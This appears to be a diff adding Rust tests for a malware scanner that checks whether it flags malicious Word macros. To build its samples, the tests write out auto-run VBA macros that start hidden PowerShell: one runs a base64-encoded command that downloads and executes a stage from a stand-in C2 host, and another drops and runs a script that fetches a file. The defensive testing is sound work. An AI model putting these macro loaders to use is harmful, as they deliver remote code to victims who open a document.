@@ -1,0 +1,106 @@
+//! A macro that starts a concealed command that fetches the next stage: one report holds the whole chain.
+
+use std::io::{Cursor, Write};
+use strongroom_model::{Limits, Report, Role, Verdict};
+use zip::ZipWriter;
+use zip::write::SimpleFileOptions;
+
+const TYPES: &str = "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
+
+fn document(macros: &str) -> Vec<u8> {
+    let project = strongroom_files::write_vba_project(&[("ThisDocument", macros)]);
+    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
+    for (name, bytes) in [
+        ("[Content_Types].xml", TYPES.as_bytes()),
+        ("word/vbaProject.bin", &project),
+    ] {
+        writer.start_file(name, SimpleFileOptions::default()).unwrap();
+        writer.write_all(bytes).unwrap();
+    }
+    writer.finish().unwrap().into_inner()
+}
+
+fn encoded(script: &str) -> String {
+    use base64::Engine;
+    let wide: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    base64::engine::general_purpose::STANDARD.encode(wide)
+}
+
+fn examine(name: &str, bytes: &[u8]) -> Report {
+    strongroom_files::examine(name, bytes, &Limits::default())
+}
+
+fn codes(report: &Report) -> Vec<&str> {
+    report
+        .findings
+        .iter()
+        .map(|finding| finding.code.as_ref())
+        .collect()
+}
+
+#[test]
+fn a_macro_is_followed_through_its_encoded_command_to_the_address() {
+    let command = encoded("IEX (New-Object Net.WebClient).DownloadString('https://c2.example/stage')");
+    let macros = format!(
+        "Sub AutoOpen()\n  Dim c\n  c = \"power\" & \"shell -nop -w hidden -enc {command}\"\n  Shell c, 0\nEnd Sub\n"
+    );
+    let report = examine("offer.docm", &document(&macros));
+    assert_eq!(report.verdict(), Verdict::Malicious);
+    let codes = codes(&report);
+    for code in [
+        "macro.auto-run",
+        "macro.auto-run-start",
+        "script.encoded-command",
+        "script.concealed-download-run",
+    ] {
+        assert!(codes.contains(&code), "{code} in {codes:?}");
+    }
+    let languages: Vec<&str> = report
+        .scripts
+        .iter()
+        .map(|script| script.language.as_ref())
+        .collect();
+    assert_eq!(languages, ["vba", "powershell"]);
+    let from = report
+        .observables
+        .iter()
+        .find(|seen| seen.observable.value() == "https://c2.example/stage")
+        .unwrap();
+    assert_eq!(from.role, Role::Download);
+}
+
+#[test]
+fn a_script_that_a_macro_writes_and_starts_is_read() {
+    let macros = "Sub Document_Open()\n  Dim f, p\n  p = Environ(\"TEMP\") & \"\\qwerty.ps1\"\n  f = FreeFile\n  \
+         Open p For Output As #f\n  Print #f, \"Invoke-WebRequest -Uri https://c2.example/a -OutFile a.bin\"\n  Close #f\n  \
+         Shell \"powershell -ep bypass -f \" & p, 0\nEnd Sub\n";
+    let report = examine("offer.docm", &document(macros));
+    assert_eq!(report.verdict(), Verdict::Malicious);
+    assert!(
+        codes(&report).contains(&"macro.auto-run-drop"),
+        "{:?}",
+        codes(&report)
+    );
+    let written = report
+        .scripts
+        .iter()
+        .find(|script| script.name.ends_with("qwerty.ps1"))
+        .unwrap();
+    assert!(written.layers[0].text.contains("Invoke-WebRequest"));
+}
+
+#[test]
+fn a_plain_download_is_no_alarm() {
+    let report = examine(
+        "get.ps1",
+        b"$u = 'https://files.example/tool.zip'\nInvoke-WebRequest -Uri $u -OutFile tool.zip\n",
+    );
+    assert_eq!(
+        report.verdict(),
+        Verdict::Clean,
+        "{:?} {:?}",
+        codes(&report),
+        report.gaps
+    );
+    assert_eq!(codes(&report), ["script.download"]);
+}
